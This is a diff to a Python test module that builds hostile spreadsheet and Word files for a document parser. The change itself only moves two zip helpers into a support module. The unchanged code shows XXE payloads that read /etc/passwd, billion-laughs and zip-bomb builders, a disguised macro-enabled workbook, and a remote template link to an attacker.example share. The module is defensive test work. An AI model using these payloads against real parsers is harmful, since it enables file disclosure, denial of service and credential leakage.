@@ -20,36 +20,37 @@ import pytest
 from tests.hostile import corpus
 from tests.hostile.corpus import KEY, Entry
 from tests.hostile.isolated import Outcome, cli_isolated, parse_isolated
+from tests.support.zipparts import parts_of, with_parts
 
 
 def _xlsx_with(changes: dict[str, bytes | None], fmt: str = "xlsx") -> bytes:
-    return corpus.with_parts(corpus.real_form(fmt), changes)
+    return with_parts(corpus.real_form(fmt), changes)
 
 
 def _inject(fmt: str, part: str, marker: bytes, payload: bytes) -> bytes:
     data = corpus.real_form(fmt)
-    body = corpus.parts_of(data)[part]
+    body = parts_of(data)[part]
     assert marker in body, (part, marker)
-    return corpus.with_parts(data, {part: body.replace(marker, payload, 1)})
+    return with_parts(data, {part: body.replace(marker, payload, 1)})
 
 
 def _xxe() -> bytes:
     doctype = b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
     data = corpus.real_form("xlsx")
-    body = corpus.parts_of(data)["xl/workbook.xml"]
+    body = parts_of(data)["xl/workbook.xml"]
     head, sep, rest = body.partition(b"?>")
     body = head + sep + doctype + rest if sep else doctype + body
-    return corpus.with_parts(data, {"xl/workbook.xml": body})
+    return with_parts(data, {"xl/workbook.xml": body})
 
 
 def _xxe_utf16() -> bytes:
     data = corpus.real_form("docx")
-    custom = corpus.parts_of(data)["docProps/custom.xml"].decode()
+    custom = parts_of(data)["docProps/custom.xml"].decode()
     custom = custom.replace('encoding="UTF-8"', 'encoding="UTF-16"')
     if "<?xml" not in custom:
         custom = '<?xml version="1.0" encoding="UTF-16"?>' + custom
     custom = custom.replace("?>", '?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]>', 1)
-    return corpus.with_parts(data, {"docProps/custom.xml": custom.encode("utf-16")})
+    return with_parts(data, {"docProps/custom.xml": custom.encode("utf-16")})
 
 
 def _billion_laughs() -> bytes:
@@ -57,7 +58,7 @@ def _billion_laughs() -> bytes:
 
 
 def _declared_bomb() -> bytes:
-    parts = corpus.parts_of(corpus.real_form("xlsx"))
+    parts = parts_of(corpus.real_form("xlsx"))
     entries = [Entry(n, d) for n, d in parts.items()]
     entries.append(Entry("xl/media/bomb.xml", b"<a/>", declared_size=3_900_000_000))
     return corpus.zip_bytes(entries)
@@ -68,7 +69,7 @@ def _ratio_bomb() -> bytes:
 
 
 def _lying_header() -> bytes:
-    parts = corpus.parts_of(corpus.real_form("xlsx"))
+    parts = parts_of(corpus.real_form("xlsx"))
     entries = [Entry(n, d) for n, d in parts.items()]
     big = next(e for e in entries if e.name == "xl/worksheets/sheet4.xml")
     big.declared_size = 100
@@ -77,10 +78,10 @@ def _lying_header() -> bytes:
 
 def _macro_renamed() -> bytes:
     data = corpus.real_form("xlsx")
-    types = corpus.parts_of(data)["[Content_Types].xml"].replace(
+    types = parts_of(data)["[Content_Types].xml"].replace(
         b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml"
     )
-    return corpus.with_parts(
+    return with_parts(
         data, {"[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}
     )
 
@@ -94,7 +95,7 @@ def _external_link() -> bytes:
     settings_rels = corpus.relationships(
         [("attachedTemplate", "\\\\attacker.example\\share\\t.dotm", "External")]
     )
-    return corpus.with_parts(data, {"word/_rels/settings.xml.rels": settings_rels})
+    return with_parts(data, {"word/_rels/settings.xml.rels": settings_rels})
 
 
 def _dde_field() -> bytes:
